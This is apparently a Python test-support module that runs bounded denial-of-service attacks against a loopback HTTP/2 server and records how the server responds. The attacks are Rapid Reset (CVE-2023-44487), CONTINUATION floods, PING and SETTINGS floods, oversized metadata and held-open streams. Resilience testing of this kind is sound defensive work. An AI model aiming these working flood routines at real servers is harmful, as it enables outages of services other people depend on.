"""Attacks on an HTTP/2 server, each bounded in count and in time, and the figures that they leave."""

from __future__ import annotations

import asyncio
import ssl
import struct
import time
from collections.abc import AsyncIterator, Callable
from contextlib import AsyncExitStack, asynccontextmanager
from typing import NamedTuple

from hpack import Encoder
from hyperframe.frame import Frame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from tests.support.h2_raw import (
    CHECK,
    HEALTH,
    NOTHING,
    STREAM_CHECK,
    RawConnection,
    continuation,
    data,
    raw_connection,
    until,
)

CANCEL = 8
INITIAL_WINDOW = 4

CONTINUATION_BYTES = 8_000
"""What each frame of a CONTINUATION flood holds, at least."""

_FRAME_BYTES = 16_000
"""A frame holds 16,384."""

_UNDER_WAY = 8
"""Calls of one connection at a time, fewer than any transport allows, where each of them is to be judged by itself."""

_LOOKS = 10
_LOOKS_EVERY_S = 0.01
"""So many looks at health of each connection at a time: about as fast as an attacker can who reads what comes back."""


class Target(NamedTuple):
    """What is attacked: a port of the loopback, with TLS where a context is given."""

    port: int
    tls: ssl.SSLContext | None = None


class Toll(NamedTuple):
    """What an attack came to: what it sent, until when, and how the peer ended it.

    ``sent`` counts what the attack is about (streams, frames); ``cut`` says that the peer closed the connection or said
    GOAWAY, with ``code``; ``reset`` counts streams that the peer has reset, ``answered`` those that it ended by itself, and
    ``good`` those of them with the status OK.
    """

    sent: int
    seconds: float
    cut: bool
    code: int | None
    reset: int
    answered: int
    good: int


async def rapid_reset(target: Target, streams: int, key: str | None = None, within_s: float = 20.0) -> Toll:
    """Open streams and cancel each at once (CVE-2023-44487)."""

    async def attack(connection: RawConnection) -> int:
        for sent in range(streams):
            request = connection.request(key=key)
            if not await connection.send(request, RstStreamFrame(request.stream_id, CANCEL)):
                return sent
        return streams

    return await _on_one(target, attack, within_s)


async def continuation_flood(target: Target, frames: int, within_s: float = 20.0) -> Toll:
    """Begin a header block and go on with it without end (CVE-2024-24549 and its kin)."""
    block = Encoder().encode([("x-filler", "f" * CONTINUATION_BYTES)], huffman=False)

    async def attack(connection: RawConnection) -> int:
        request = connection.request(end_headers=False)
        await connection.send(request)
        for sent in range(frames):
            if not await connection.send(continuation(request.stream_id, block)):
                return sent
        return frames

    return await _on_one(target, attack, within_s)


async def ping_flood(target: Target, frames: int, within_s: float = 20.0) -> Toll:
    """Send PING after PING."""

    async def attack(connection: RawConnection) -> int:
        for sent in range(frames):
            if not await connection.send(PingFrame(0, struct.pack(">Q", sent))):
                return sent
        return frames

    return await _on_one(target, attack, within_s)


async def settings_flood(target: Target, frames: int, within_s: float = 20.0) -> Toll:
    """Send SETTINGS after SETTINGS, each of which wants an answer."""

    async def attack(connection: RawConnection) -> int:
        for sent in range(frames):
            if not await connection.send(SettingsFrame(0, settings={INITIAL_WINDOW: 65_535})):
                return sent
        return frames

    return await _on_one(target, attack, within_s)


async def large_metadata(target: Target, streams: int, size: int, key: str | None = None, within_s: float = 20.0) -> Toll:
    """Send the headers of requests with so many bytes of metadata, whole, and no body."""

    async def attack(connection: RawConnection) -> int:
        for sent in range(streams):
            if not await connection.send(*_with_metadata(connection, size, key)):
                return sent
        return streams

    return await _on_one(target, attack, within_s)


async def calls_with_metadata(
    target: Target, calls: int, size: int, body: bytes, *, key: str, within_s: float = 20.0
) -> Toll:
    """Make whole calls with so many bytes of metadata, a few at a time; ``body`` is the message of each.

    With few bytes, this is how somebody calls who attacks nobody.
    """

    async def attack(connection: RawConnection) -> int:
        # Answers of many calls are more than a connection takes unasked.
        await connection.send(WindowUpdateFrame(0, window_increment=1 << 30))
        for sent in range(0, calls, _UNDER_WAY):
            for _ in range(_UNDER_WAY):
                *block, last = _with_metadata(connection, size, key)
                await connection.send(*block, last, data(last.stream_id, struct.pack(">BI", 0, len(body)) + body, end=True))
            if not await connection.flush():
                return sent
            await until(lambda due=sent + _UNDER_WAY: _ended(connection) >= due, within_s)  # type: ignore[misc]
        return calls

    return await _on_one(target, attack, within_s)


def _ended(connection: RawConnection) -> int:
    # A call may be ended by a status and a reset both.
    return max(connection.statuses.total(), connection.resets.total())


def _with_metadata(connection: RawConnection, size: int, key: str | None) -> list[Frame]:
    """Give the headers of a request with so many bytes of metadata more, which go on in CONTINUATION."""
    # Never indexed: what a table holds would be sent by its number, and take no room.
    block = Encoder().encode([("x-filler", "f" * size, True)], huffman=False)
    request = connection.request(end_headers=False, key=key)
    request.data, rest = (request.data + block)[:_FRAME_BYTES], (request.data + block)[_FRAME_BYTES:]
    frames: list[Frame] = [request]
    while rest:
        frames.append(continuation(request.stream_id, rest[:_FRAME_BYTES]))
        rest = rest[_FRAME_BYTES:]
    frames[-1].flags.add("END_HEADERS")
    return frames


async def oversize(target: Target, streams: int, size: int, key: str | None = None, within_s: float = 20.0) -> Toll:
    """Announce a message of so many bytes, and begin to send it."""
    head = struct.pack(">BI", 0, size)

    async def attack(connection: RawConnection) -> int:
        for sent in range(streams):
            request = connection.request(key=key)
            if not await connection.send(request, data(request.stream_id, head + bytes(256))):
                return sent
        return streams

    return await _on_one(target, attack, within_s)


async def health_flood(target: Target, connections: int, seconds: float) -> Toll:
    """Ask for health on several connections at a pace, each within the places that the peer gives it, for so long."""
    began = time.monotonic()
    async with AsyncExitStack() as stack:
        opened = [await stack.enter_async_context(raw_connection(*target)) for _ in range(connections)]
        sent = await asyncio.gather(*(_ask_for_health(each, began + seconds) for each in opened))
        return _toll(sum(sent), time.monotonic() - began, *opened)


async def _ask_for_health(connection: RawConnection, until_s: float) -> int:
    """Ask again and again until a moment of the monotonic clock; gives how often.

    A peer that never says how many places there are, as one that only takes in what is sent, is asked at the whole pace.
    """
    # Answers of many calls are more than a connection takes unasked.
    await connection.send(WindowUpdateFrame(0, window_increment=1 << 30))
    sent = 0
    while time.monotonic() < until_s and not connection.closed.is_set():
        due = _LOOKS
        if connection.places is not None:
            due = min(due, connection.places - (sent - _ended(connection)))
        for _ in range(due):
            request = connection.request(HEALTH)
            await connection.send(request, data(request.stream_id, NOTHING, end=True))
        sent += due
        await connection.flush()
        await asyncio.sleep(_LOOKS_EVERY_S)
    return sent


async def _on_one(target: Target, attack: Callable[[RawConnection], object], within_s: float) -> Toll:
    """Run an attack on a connection of its own, and wait a moment for how the peer takes it."""
    began = time.monotonic()
    async with raw_connection(*target) as connection:
        try:
            async with asyncio.timeout(within_s):
                sent = await attack(connection)  # type: ignore[misc]
                await connection.flush()
        except TimeoutError:
            sent = -1
        took = time.monotonic() - began
        await _settled(connection)
        return _toll(sent, took, connection)


async def _settled(connection: RawConnection, quiet_s: float = 0.6, within_s: float = 5.0) -> None:
    """Wait until nothing has come back for a while, or the peer is gone."""
    deadline = time.monotonic() + within_s
    seen = -1
    while seen != connection.seen.total() and not connection.closed.is_set() and time.monotonic() < deadline:
        seen = connection.seen.total()
        await asyncio.sleep(quiet_s)


def _toll(sent: int, seconds: float, *connections: RawConnection) -> Toll:
    codes = [each.goaway for each in connections if each.goaway is not None]
    return Toll(
        sent=sent,
        seconds=seconds,
        cut=all(each.closed.is_set() or each.goaway is not None for each in connections),
        code=codes[0] if codes else None,
        reset=sum(each.resets.total() for each in connections),
        answered=sum(each.statuses.total() for each in connections),
        good=sum(each.statuses["0"] for each in connections),
    )


class Siege:
    """Streams that are held open on several connections."""

    def __init__(self, connections: list[RawConnection], streams: list[tuple[RawConnection, int]], seconds: float) -> None:
        self._connections = connections
        self._streams = streams
        self._began = time.monotonic() - seconds

    @property
    def places(self) -> int | None:
        """How many streams the peer allows on a connection; None before it has said so."""
        return self._connections[0].places

    async def drip(self) -> int:
        """Send one byte more on each stream; gives how many connections still take it."""
        for connection, stream in self._streams:
            await connection.send(data(stream, b"\0"))
        return sum([await each.flush() for each in self._connections])

    def toll(self) -> Toll:
        return _toll(len(self._streams), time.monotonic() - self._began, *self._connections)


@asynccontextmanager
async def held_open(
    target: Target,
    connections: int,
    streams: int,
    *,
    path: str = CHECK,
    key: str | None = None,
    begin_body: bool = False,
    body: bytes = b"",
) -> AsyncIterator[Siege]:
    """Hold streams open that send headers, and where the body begins, a few bytes of it; ``body`` is a whole one."""
    began = time.monotonic()
    async with AsyncExitStack() as stack:
        opened = [await stack.enter_async_context(raw_connection(*target)) for _ in range(connections)]
        held = []
        for connection in opened:
            for _ in range(streams):
                request = connection.request(path, key=key)
                held.append((connection, request.stream_id))
                await connection.send(request)
                if begin_body:
                    await connection.send(data(request.stream_id, struct.pack(">BI", 0, 1000)))
                elif body:
                    await connection.send(data(request.stream_id, body, end=True))
            await connection.flush()
        for connection in opened:
            await _settled(connection, quiet_s=0.1)
        yield Siege(opened, held, time.monotonic() - began)


@asynccontextmanager
async def connections_held(target: Target, count: int) -> AsyncIterator[list[RawConnection]]:
    """Hold connections open that do nothing; those refused are left out."""
    async with AsyncExitStack() as stack:
        opened = []
        for _ in range(count):
            try:
                opened.append(await stack.enter_async_context(raw_connection(*target)))
            except OSError:
                continue
        yield opened


__all__ = [
    "CONTINUATION_BYTES",
    "STREAM_CHECK",
    "Siege",
    "Target",
    "Toll",
    "calls_with_metadata",
    "connections_held",
    "continuation_flood",
    "health_flood",
    "held_open",
    "large_metadata",
    "oversize",
    "ping_flood",
    "rapid_reset",
    "settings_flood",
]
